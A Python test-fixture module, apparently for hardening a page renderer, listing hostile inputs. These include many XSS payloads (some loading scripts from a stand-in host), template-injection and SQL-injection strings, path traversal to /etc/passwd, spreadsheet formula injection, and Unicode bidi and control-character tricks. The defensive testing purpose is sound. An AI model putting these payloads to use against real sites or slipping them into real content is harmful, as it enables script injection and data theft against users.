"""Texts that have broken pages: markup, attributes, addresses, control and bidirectional characters, sheer size."""

from __future__ import annotations

_MARKUP = '''<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><script>alert(1)</script></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<iframe src=javascript:alert(1)>
<iframe srcdoc="<script>alert(1)</script>">
<object data=javascript:alert(1)>
<embed src=javascript:alert(1)>
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<a href=javascript:alert(1)>x</a>
<form action=javascript:alert(1)><button>x
<button formaction=javascript:alert(1)>x
<base href=//evil.example/>
<meta http-equiv=refresh content=0;url=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<style>*{background:url(//evil.example/)}</style>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xss style="animation-name:x" onanimationstart=alert(1)>
<plaintext>
<!-- --><script>alert(1)</script>
<!--><script>alert(1)</script>
--><script>alert(1)</script><!--
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</script><script>alert(1)</script>
</bdi></a></td></tr></table><script>alert(1)</script>
</main></body></html><script>alert(1)</script>
</svg><script>alert(1)</script>
</option></select><img src=x onerror=alert(1)>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<img src="x` `<script>alert(1)</script>"` `>
<img """><script>alert(1)</script>">
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
'><script>alert(1)</script>
"><script>alert(1)</script>
"><svg onload=alert(1)>
`onmouseover=alert(1)`
" style="background:url(//evil.example)
" href="javascript:alert(1)
x" data-island="graph" data-graph="//evil.example/x
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&quot; onload=alert(1) &quot;
&NewLine;javascript&colon;alert(1)
{{ 7 * 7 }}
{{ config.__class__.__mro__ }}
{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}
{# comment #}
${7*7}
#{7*7}
<%= 7 * 7 %>
javascript:alert(1)
JaVaScRiPt:alert(1)
 javascript:alert(1)
data:text/html,<script>alert(1)</script>
vbscript:msgbox(1)
//evil.example/x
https:evil.example
https://user:password@evil.example/
https://evil.example/"onmouseover="alert(1)
file:///etc/passwd
../../etc/passwd
..%2f..%2fetc%2fpasswd
=HYPERLINK("http://evil.example","x")
+1+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
'; DROP TABLE pages; --
\\x3cscript\\x3ealert(1)\\x3c/script\\x3e
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
expression(alert(1))
@import url(//evil.example/x.css);'''.splitlines()
_CHARACTERS = (
    "a\0b<script\0>alert(1)</script>",
    "a\x1b[31mred\x1b]0;title\x07",
    "\u202egpj.exe\u202c evil",
    "\u2066abc\u2067def\u2069\u2069",
    "a\u200bb\u200ec\ufeffd",
    "a\rb\nc\td\x0be\x0cf",
    "line\u2028separator\u2029paragraph",
    "\ufffe\uffff\U000e0041\U0010ffff",
    "java\0script:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "ＳＣＲＩＰＴ ＜script＞alert(1)＜/script＞",
    "e" + "\u0301" * 500,
    "مرحبا <b>بالعالم</b> שלום",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "",
    " ",
    "x" * 1_000_000,
    "<b>" * 100_000,
    "word " * 100_000,
)
HOSTILE: tuple[str, ...] = (*_MARKUP, *_CHARACTERS)
